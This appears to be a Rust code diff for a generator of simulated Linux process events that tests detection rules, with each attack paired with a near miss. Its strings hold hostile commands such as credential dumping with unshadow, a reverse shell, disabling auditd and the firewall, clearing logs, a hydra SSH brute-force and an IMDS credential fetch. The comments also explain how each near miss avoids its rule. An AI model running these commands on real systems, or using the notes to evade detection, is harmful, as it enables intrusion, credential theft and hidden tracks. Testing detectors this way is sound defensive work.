@@ -57,7 +57,7 @@ impl NearMiss {
 }
 
 /// The attacks other than IMDS: (kind, rule, near-miss kind). See [`Gen::inject_attack`] for
-/// what each one is and [`Gen::inject_attack_near`] for its near miss.
+/// what each one and its near miss is.
 pub const ATTACKS: &[(&str, &str, &str)] = &[
     (
         "reverse_shell",
@@ -151,6 +151,109 @@ struct Inj {
     login: Account,
     shell: Rc<Proc>,
     ids: Vec<String>,
+}
+
+/// Who runs an attack's command, and from where.
+#[derive(Clone, Copy)]
+enum By {
+    /// The login user, from the session's shell.
+    Login,
+    /// Root, from a fresh `sudo -i` root shell.
+    Root,
+    /// Root, through an intermediate parent (its executable and command line) that the root shell
+    /// started in `/` a second earlier: the excluded parents of near misses.
+    RootVia(&'static str, &'static str),
+}
+
+/// What one command runs: who runs it, its executable and its command line.
+type Run = (By, &'static str, &'static str);
+
+/// The attacks that are a single command: (kind, what the attack runs, what its near miss runs).
+const ONE_COMMAND: &[(&str, Run, Run)] = &[
+    (
+        "chmod_setuid",
+        (By::Root, "/usr/bin/chmod", "chmod 4755 /var/tmp/.font-unix/dbus-helper"),
+        (By::Root, "/usr/bin/chmod", "chmod 0755 /usr/local/bin/backup-helper"),
+    ),
+    (
+        "history_deleted",
+        (By::Login, "/usr/bin/rm", "rm -f /home/{user}/.bash_history"),
+        (By::Login, "/usr/bin/rm", "rm -f /home/{user}/.bash_history.bak"),
+    ),
+    (
+        "unshadow",
+        (By::Root, "/usr/sbin/unshadow", "unshadow /etc/passwd /etc/shadow"),
+        (By::Root, "/usr/sbin/unshadow", "unshadow --help"),
+    ),
+    (
+        "auditd_stopped",
+        (By::Root, "/usr/bin/systemctl", "systemctl stop auditd"),
+        (
+            By::RootVia(
+                "/var/lib/dpkg/info/auditd.prerm",
+                "/var/lib/dpkg/info/auditd.prerm remove",
+            ),
+            "/usr/bin/systemctl",
+            "systemctl stop auditd",
+        ),
+    ),
+    (
+        "uid0_user",
+        (By::Root, "/usr/sbin/usermod", "usermod -o -u 0 svc-backup"),
+        (By::Root, "/usr/sbin/usermod", "usermod -o -u 1500 svc-backup"),
+    ),
+    (
+        "telegram_api",
+        (By::Login, "/usr/bin/curl", "curl -s -X POST https://api.telegram.org/bot{n}{h}:AAH{h}/sendMessage -d chat_id={n}{n}"),
+        (By::Login, "/usr/bin/curl", "curl -s https://core.telegram.org/bots/api"),
+    ),
+    (
+        "ufw_disabled",
+        (By::Root, "/usr/sbin/ufw", "ufw disable"),
+        (By::Root, "/usr/sbin/ufw", "ufw status verbose"),
+    ),
+    (
+        "shred_remove",
+        (By::Root, "/usr/bin/shred", "shred -u -z /var/tmp/.font-unix/loot.tar"),
+        (
+            By::RootVia("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.d/vault-audit"),
+            "/usr/bin/shred",
+            "shred -u /var/log/vault/audit.log.4",
+        ),
+    ),
+    (
+        "journal_vacuum",
+        (By::Root, "/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
+        (
+            By::RootVia("/usr/bin/dash", "/bin/sh /etc/cron.daily/clean-journal-logs"),
+            "/usr/bin/journalctl",
+            "journalctl --vacuum-time=14d",
+        ),
+    ),
+    (
+        "suid_enumeration",
+        (By::Login, "/usr/bin/find", "find / -perm -4000 -type f"),
+        (By::Root, "/usr/bin/find", "find / -perm -4000 -type f"),
+    ),
+    (
+        "hack_tool",
+        (By::Login, "/usr/bin/hydra", "hydra -l root -P /home/{user}/wordlists/top-1000.txt ssh://{ip}"),
+        (By::Login, "/usr/bin/johnny", "johnny"),
+    ),
+    (
+        "imds_role_credentials",
+        (By::Login, "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-instance-role"),
+        (By::Login, "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ),
+];
+
+/// `attack` for the attack, `near` for its near miss.
+fn pick<T>(near_miss: bool, attack: T, near: T) -> T {
+    if near_miss {
+        near
+    } else {
+        attack
+    }
 }
 
 impl Gen {
@@ -387,497 +490,144 @@ impl Gen {
         self.finish(inj, kind.as_str(), IMDS_RULE, true)
     }
 
-    /// Schedules attack `ATTACKS[k]` starting at `now`:
-    /// * `reverse_shell`: a `bash` connects to a public address and, within the 5 s maxspan,
-    ///   starts `bash -i` (Potential Reverse Shell);
-    /// * `suid_find_shell`: a setuid-root `find` (effective user 0, real user the login) runs
-    ///   `-exec /bin/sh -p` (Privilege Escalation via SUID/SGID);
-    /// * `chmod_setuid`: `chmod 4755` on a copied shell (SUID/SGID Bit Set);
-    /// * `cron_file`: a root `tee` creates a file in `/etc/cron.d` (Cron Job Created or Modified);
-    /// * `systemd_unit`: a root `cp` creates a `.service` under `/etc/systemd/system` (Systemd
-    ///   Service Created);
-    /// * `history_deleted`: `rm -f /home/USER/.bash_history` (Tampering of Shell Command-Line History);
-    /// * `unshadow`: `unshadow /etc/passwd /etc/shadow` (Credential Dumping via Unshadow);
-    /// * `auditd_stopped`: `systemctl stop auditd` (Attempt to Disable Auditd Service);
-    /// * `cat_egress`: `cat` started by a shell connects to a public address within 3 s
-    ///   (Network Activity Detected via cat);
-    /// * `uid0_user`: `usermod -o -u 0` (Potential Linux Backdoor User Account Creation);
-    /// * `telegram_api`: `curl` posts to `api.telegram.org` (Linux Telegram API Request);
-    /// * `ufw_disabled`: `ufw disable` (Attempt to Disable IPTables or Firewall);
-    /// * `shred_remove`: `shred -u -z` (File Deletion via Shred);
-    /// * `journal_vacuum`: `journalctl --vacuum-time=1s` (Attempt to Clear Logs via Journalctl);
-    /// * `suid_enumeration`: `find / -perm -4000` by an unprivileged user (SUID/SGUID Enumeration);
-    /// * `hack_tool`: `hydra` against SSH (Potential Linux Hack Tool Launched);
-    /// * `imds_role_credentials`: `curl` of a role's credentials from the IMDS, without a
-    ///   connection (Suspicious IMDS API Command Line Execution).
-    pub(crate) fn inject_attack(&mut self, now: i64, k: usize) -> Scenario {
-        let (kind, rule, _) = ATTACKS[k];
-        let mut inj = self.session(now);
-        let shell = inj.shell.clone();
-        let login = inj.login;
-        let t1 = now + self.rng.range(2 * MS as u64, 800 * MS as u64) as i64;
-        match kind {
-            "reverse_shell" => {
-                let b = self.spawn_in(&inj, &shell, "/usr/bin/bash", "bash", "", now, login);
-                self.exec(&mut inj, now, &b);
-                self.connect(&mut inj, now + 5 * MS, &b, "45.77.65.211", 4444);
-                // Within the 5 s maxspan, after the connection.
-                let t = t1 + 5 * MS;
-                let i = self.spawn_in(&inj, &b, "/usr/bin/bash", "bash -i", "", t, login);
-                self.exec(&mut inj, t, &i);
+    /// Runs `exe` with command line `cmd` at `now`, as `by` says, and schedules its exec.
+    fn command(&mut self, inj: &mut Inj, now: i64, by: By, exe: &str, cmd: &str) -> Rc<Proc> {
+        let p = match by {
+            By::Login => {
+                let shell = inj.shell.clone();
+                self.spawn_in(inj, &shell, exe, cmd, "", now, inj.login)
             }
-            "suid_find_shell" => self.setuid_find(&mut inj, now, false),
-            "chmod_setuid" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/chmod",
-                    "chmod 4755 /var/tmp/.font-unix/dbus-helper",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
+            By::Root | By::RootVia(..) => {
+                let mut parent = self.root_shell(inj, now);
+                if let By::RootVia(via_exe, via_cmd) = by {
+                    parent =
+                        self.spawn_in(inj, &parent, via_exe, via_cmd, "/", now - SEC, vocab::ROOT);
+                }
+                self.spawn_in(inj, &parent, exe, cmd, "", now, vocab::ROOT)
             }
-            "cron_file" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/tee",
-                    "tee /etc/cron.d/sysupdate",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-                self.file(&mut inj, t1, &p, "creation", "/etc/cron.d/sysupdate");
-            }
-            "systemd_unit" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(&inj, &root, "/usr/bin/cp", "cp /var/tmp/.font-unix/dbus-helper.service /etc/systemd/system/dbus-helper.service", "", now, vocab::ROOT);
-                self.exec(&mut inj, now, &p);
-                self.file(
-                    &mut inj,
-                    t1,
-                    &p,
-                    "creation",
-                    "/etc/systemd/system/dbus-helper.service",
-                );
-            }
-            "history_deleted" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/rm",
-                    "rm -f /home/{user}/.bash_history",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "unshadow" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/unshadow",
-                    "unshadow /etc/passwd /etc/shadow",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "auditd_stopped" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/systemctl",
-                    "systemctl stop auditd",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "cat_egress" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/cat",
-                    "cat /home/{user}/.config/app/token.json",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-                self.connect(&mut inj, t1, &p, "45.77.65.211", 443);
-            }
-            "uid0_user" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/usermod",
-                    "usermod -o -u 0 svc-backup",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "telegram_api" => {
-                let p = self.spawn_in(&inj, &shell, "/usr/bin/curl", "curl -s -X POST https://api.telegram.org/bot{n}{h}:AAH{h}/sendMessage -d chat_id={n}{n}", "", now, login);
-                self.exec(&mut inj, now, &p);
-            }
-            "ufw_disabled" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/ufw",
-                    "ufw disable",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "shred_remove" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/shred",
-                    "shred -u -z /var/tmp/.font-unix/loot.tar",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "journal_vacuum" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/journalctl",
-                    "journalctl --vacuum-time=1s",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "suid_enumeration" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/find",
-                    "find / -perm -4000 -type f",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "hack_tool" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/hydra",
-                    "hydra -l root -P /home/{user}/wordlists/top-1000.txt ssh://{ip}",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "imds_role_credentials" => {
-                let p = self.spawn_in(&inj, &shell, "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-instance-role", "", now, login);
-                self.exec(&mut inj, now, &p);
-            }
-            other => unreachable!("attack kind {other}"),
-        }
-        self.finish(inj, kind, rule, false)
-    }
-
-    /// The setuid `find` of `suid_find_shell`; with `real_root`, run through sudo instead, so the
-    /// real user is root too and the rule's `real_user.id != "0"` fails.
-    fn setuid_find(&mut self, inj: &mut Inj, now: i64, real_root: bool) {
-        let cmd = "|find|.|-exec|/bin/sh|-p|;|-quit";
-        let p = if real_root {
-            let root = self.root_shell(inj, now);
-            self.spawn_in(inj, &root, "/usr/bin/find", cmd, "", now, vocab::ROOT)
-        } else {
-            let shell = inj.shell.clone();
-            let mut p =
-                (*self.spawn_in(inj, &shell, "/usr/bin/find", cmd, "", now, inj.login)).clone();
-            p.user = vocab::setuid_root(inj.login);
-            Rc::new(p)
         };
         self.exec(inj, now, &p);
+        p
     }
 
-    /// Schedules the near miss of `ATTACKS[k]` starting at `now`:
-    /// * the reverse shell's `bash -i` comes 6 s after the connection (maxspan is 5 s);
-    /// * the `find -exec` runs through sudo: the real user is root as well;
-    /// * `chmod 0755` sets no setuid bit (the rule's regex is anchored: `[24][0-9]{3}`);
-    /// * vim's swap file in `/etc/cron.d` (extension `swp` is excluded);
-    /// * the unit file is created by `dpkg` (an excluded executable);
-    /// * `rm -f ~/.bash_history.bak` (`:` without a wildcard matches the whole argument);
-    /// * `unshadow` with two arguments (`args_count >= 3` fails);
-    /// * `systemctl stop auditd` from the package's `auditd.prerm` script (excluded parent);
-    /// * `cat` connects to a private address (excluded by `cidrmatch`);
-    /// * `usermod -o -u 1500` (no argument `0`);
-    /// * `curl` of `core.telegram.org` (not `api.telegram.org`);
-    /// * `ufw status verbose`;
-    /// * `shred -u` run by logrotate (excluded parent);
-    /// * `journalctl --vacuum-time` from `/etc/cron.daily/clean-journal-logs` (excluded parent args);
-    /// * `find / -perm -4000` by root (`user.Ext.real.id == "0"` is excluded);
-    /// * `johnny`, a look-alike of a listed tool name (`in~` has no wildcards);
-    /// * `curl` of the IMDS role listing, `…/security-credentials/` with nothing after it
-    ///   (the pattern's `?` needs one more character).
-    pub(crate) fn inject_attack_near(&mut self, now: i64, k: usize) -> Scenario {
-        let (_, rule, kind) = ATTACKS[k];
+    /// Schedules attack `ATTACKS[k]` starting at `now`, or with `near_miss` its near miss, which
+    /// differs from it only in what makes it miss. Each kind, as (attack; near miss):
+    /// * `reverse_shell`: a `bash` connects to a public address and, within the 5 s maxspan,
+    ///   starts `bash -i` (Potential Reverse Shell); the `bash -i` comes 6 s after the connection;
+    /// * `suid_find_shell`: a setuid-root `find` (effective user 0, real user the login) runs
+    ///   `-exec /bin/sh -p` (Privilege Escalation via SUID/SGID); the `find` runs through sudo
+    ///   instead, so the real user is root too and the rule's `real_user.id != "0"` fails;
+    /// * `chmod_setuid`: `chmod 4755` on a copied shell (SUID/SGID Bit Set); `chmod 0755` sets no
+    ///   setuid bit (the rule's regex is anchored: `[24][0-9]{3}`);
+    /// * `cron_file`: a root `tee` creates a file in `/etc/cron.d` (Cron Job Created or Modified);
+    ///   vim's swap file there (extension `swp` is excluded);
+    /// * `systemd_unit`: a root `cp` creates a `.service` under `/etc/systemd/system` (Systemd
+    ///   Service Created); the unit file is created by `dpkg` (an excluded executable);
+    /// * `history_deleted`: `rm -f /home/USER/.bash_history` (Tampering of Shell Command-Line
+    ///   History); `rm -f ~/.bash_history.bak` (`:` without a wildcard matches the whole argument);
+    /// * `unshadow`: `unshadow /etc/passwd /etc/shadow` (Credential Dumping via Unshadow);
+    ///   `unshadow --help` (`args_count >= 3` fails);
+    /// * `auditd_stopped`: `systemctl stop auditd` (Attempt to Disable Auditd Service); the same
+    ///   from the package's `auditd.prerm` script (excluded parent);
+    /// * `cat_egress`: `cat` started by a shell connects to a public address within 3 s
+    ///   (Network Activity Detected via cat); to a private address (excluded by `cidrmatch`);
+    /// * `uid0_user`: `usermod -o -u 0` (Potential Linux Backdoor User Account Creation);
+    ///   `usermod -o -u 1500` (no argument `0`);
+    /// * `telegram_api`: `curl` posts to `api.telegram.org` (Linux Telegram API Request); `curl`
+    ///   of `core.telegram.org`;
+    /// * `ufw_disabled`: `ufw disable` (Attempt to Disable IPTables or Firewall);
+    ///   `ufw status verbose`;
+    /// * `shred_remove`: `shred -u -z` (File Deletion via Shred); `shred -u` run by logrotate
+    ///   (excluded parent);
+    /// * `journal_vacuum`: `journalctl --vacuum-time=1s` (Attempt to Clear Logs via Journalctl);
+    ///   `journalctl --vacuum-time` from `/etc/cron.daily/clean-journal-logs` (excluded parent
+    ///   args);
+    /// * `suid_enumeration`: `find / -perm -4000` by an unprivileged user (SUID/SGUID
+    ///   Enumeration); the same by root (`user.Ext.real.id == "0"` is excluded);
+    /// * `hack_tool`: `hydra` against SSH (Potential Linux Hack Tool Launched); `johnny`, a
+    ///   look-alike of a listed tool name (`in~` has no wildcards);
+    /// * `imds_role_credentials`: `curl` of a role's credentials from the IMDS, without a
+    ///   connection (Suspicious IMDS API Command Line Execution); `curl` of the role listing,
+    ///   `…/security-credentials/` with nothing after it (the pattern's `?` needs one more
+    ///   character).
+    pub(crate) fn inject_attack(&mut self, now: i64, k: usize, near_miss: bool) -> Scenario {
+        let (attack, rule, near) = ATTACKS[k];
         let mut inj = self.session(now);
-        let shell = inj.shell.clone();
         let login = inj.login;
         let t1 = now + self.rng.range(2 * MS as u64, 800 * MS as u64) as i64;
-        match ATTACKS[k].0 {
+        match attack {
             "reverse_shell" => {
-                let b = self.spawn_in(&inj, &shell, "/usr/bin/bash", "bash", "", now, login);
-                self.exec(&mut inj, now, &b);
+                let b = self.command(&mut inj, now, By::Login, "/usr/bin/bash", "bash");
                 self.connect(&mut inj, now + 5 * MS, &b, "45.77.65.211", 4444);
-                let t = now + 6 * SEC + 5 * MS;
+                // After the connection: within the 5 s maxspan, or 6 s after it.
+                let t = if near_miss { now + 6 * SEC } else { t1 } + 5 * MS;
                 let i = self.spawn_in(&inj, &b, "/usr/bin/bash", "bash -i", "", t, login);
                 self.exec(&mut inj, t, &i);
             }
-            "suid_find_shell" => self.setuid_find(&mut inj, now, true),
-            "chmod_setuid" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/chmod",
-                    "chmod 0755 /usr/local/bin/backup-helper",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
+            "suid_find_shell" => {
+                let (exe, cmd) = ("/usr/bin/find", "|find|.|-exec|/bin/sh|-p|;|-quit");
+                if near_miss {
+                    self.command(&mut inj, now, By::Root, exe, cmd);
+                } else {
+                    let shell = inj.shell.clone();
+                    let mut p = (*self.spawn_in(&inj, &shell, exe, cmd, "", now, login)).clone();
+                    p.user = vocab::setuid_root(login);
+                    self.exec(&mut inj, now, &p);
+                }
             }
             "cron_file" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/vim",
-                    "vim /etc/cron.d/sysupdate",
-                    "",
-                    now,
-                    vocab::ROOT,
+                let (exe, cmd, path) = pick(
+                    near_miss,
+                    (
+                        "/usr/bin/tee",
+                        "tee /etc/cron.d/sysupdate",
+                        "/etc/cron.d/sysupdate",
+                    ),
+                    (
+                        "/usr/bin/vim",
+                        "vim /etc/cron.d/sysupdate",
+                        "/etc/cron.d/.sysupdate.swp",
+                    ),
                 );
-                self.exec(&mut inj, now, &p);
-                self.file(&mut inj, t1, &p, "creation", "/etc/cron.d/.sysupdate.swp");
+                let p = self.command(&mut inj, now, By::Root, exe, cmd);
+                self.file(&mut inj, t1, &p, "creation", path);
             }
             "systemd_unit" => {
                 let root = self.root_shell(&inj, now);
-                let apt = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/apt-get",
-                    "apt-get install -y --no-install-recommends nginx-extras",
-                    "",
-                    now - 2 * SEC,
-                    vocab::ROOT,
-                );
-                let p = self.spawn_in(&inj, &apt, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 28 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nginx-extras_1.18.0-6ubuntu14.4_amd64.deb", "", now, vocab::ROOT);
-                self.file(
-                    &mut inj,
-                    t1,
-                    &p,
-                    "creation",
-                    "/lib/systemd/system/nginx-extras.service",
-                );
-            }
-            "history_deleted" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/rm",
-                    "rm -f /home/{user}/.bash_history.bak",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "unshadow" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/unshadow",
-                    "unshadow --help",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "auditd_stopped" => {
-                let root = self.root_shell(&inj, now);
-                let prerm = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/var/lib/dpkg/info/auditd.prerm",
-                    "/var/lib/dpkg/info/auditd.prerm remove",
-                    "/",
-                    now - SEC,
-                    vocab::ROOT,
-                );
-                let p = self.spawn_in(
-                    &inj,
-                    &prerm,
-                    "/usr/bin/systemctl",
-                    "systemctl stop auditd",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
+                let (p, path) = if near_miss {
+                    let apt = self.spawn_in(
+                        &inj,
+                        &root,
+                        "/usr/bin/apt-get",
+                        "apt-get install -y --no-install-recommends nginx-extras",
+                        "",
+                        now - 2 * SEC,
+                        vocab::ROOT,
+                    );
+                    let p = self.spawn_in(&inj, &apt, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 28 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nginx-extras_1.18.0-6ubuntu14.4_amd64.deb", "", now, vocab::ROOT);
+                    (p, "/lib/systemd/system/nginx-extras.service")
+                } else {
+                    let p = self.spawn_in(&inj, &root, "/usr/bin/cp", "cp /var/tmp/.font-unix/dbus-helper.service /etc/systemd/system/dbus-helper.service", "", now, vocab::ROOT);
+                    self.exec(&mut inj, now, &p);
+                    (p, "/etc/systemd/system/dbus-helper.service")
+                };
+                self.file(&mut inj, t1, &p, "creation", path);
             }
             "cat_egress" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/cat",
-                    "cat /home/{user}/.config/app/token.json",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-                self.connect(&mut inj, t1, &p, "10.0.9.14", 443);
+                let cmd = "cat /home/{user}/.config/app/token.json";
+                let p = self.command(&mut inj, now, By::Login, "/usr/bin/cat", cmd);
+                let ip = pick(near_miss, "45.77.65.211", "10.0.9.14");
+                self.connect(&mut inj, t1, &p, ip, 443);
             }
-            "uid0_user" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/usermod",
-                    "usermod -o -u 1500 svc-backup",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
+            kind => {
+                let &(_, attack_run, near_run) = ONE_COMMAND
+                    .iter()
+                    .find(|run| run.0 == kind)
+                    .unwrap_or_else(|| unreachable!("attack kind {kind}"));
+                let (by, exe, cmd) = pick(near_miss, attack_run, near_run);
+                self.command(&mut inj, now, by, exe, cmd);
             }
-            "telegram_api" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/curl",
-                    "curl -s https://core.telegram.org/bots/api",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "ufw_disabled" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/ufw",
-                    "ufw status verbose",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "shred_remove" => {
-                let root = self.root_shell(&inj, now);
-                let lr = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/sbin/logrotate",
-                    "/usr/sbin/logrotate /etc/logrotate.d/vault-audit",
-                    "/",
-                    now - SEC,
-                    vocab::ROOT,
-                );
-                let p = self.spawn_in(
-                    &inj,
-                    &lr,
-                    "/usr/bin/shred",
-                    "shred -u /var/log/vault/audit.log.4",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "journal_vacuum" => {
-                let root = self.root_shell(&inj, now);
-                let sh = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/dash",
-                    "/bin/sh /etc/cron.daily/clean-journal-logs",
-                    "/",
-                    now - SEC,
-                    vocab::ROOT,
-                );
-                let p = self.spawn_in(
-                    &inj,
-                    &sh,
-                    "/usr/bin/journalctl",
-                    "journalctl --vacuum-time=14d",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "suid_enumeration" => {
-                let root = self.root_shell(&inj, now);
-                let p = self.spawn_in(
-                    &inj,
-                    &root,
-                    "/usr/bin/find",
-                    "find / -perm -4000 -type f",
-                    "",
-                    now,
-                    vocab::ROOT,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            "hack_tool" => {
-                let p = self.spawn_in(&inj, &shell, "/usr/bin/johnny", "johnny", "", now, login);
-                self.exec(&mut inj, now, &p);
-            }
-            "imds_role_credentials" => {
-                let p = self.spawn_in(
-                    &inj,
-                    &shell,
-                    "/usr/bin/curl",
-                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
-                    "",
-                    now,
-                    login,
-                );
-                self.exec(&mut inj, now, &p);
-            }
-            other => unreachable!("attack kind {other}"),
         }
-        self.finish(inj, kind, rule, true)
+        self.finish(inj, pick(near_miss, attack, near), rule, near_miss)
     }
 }
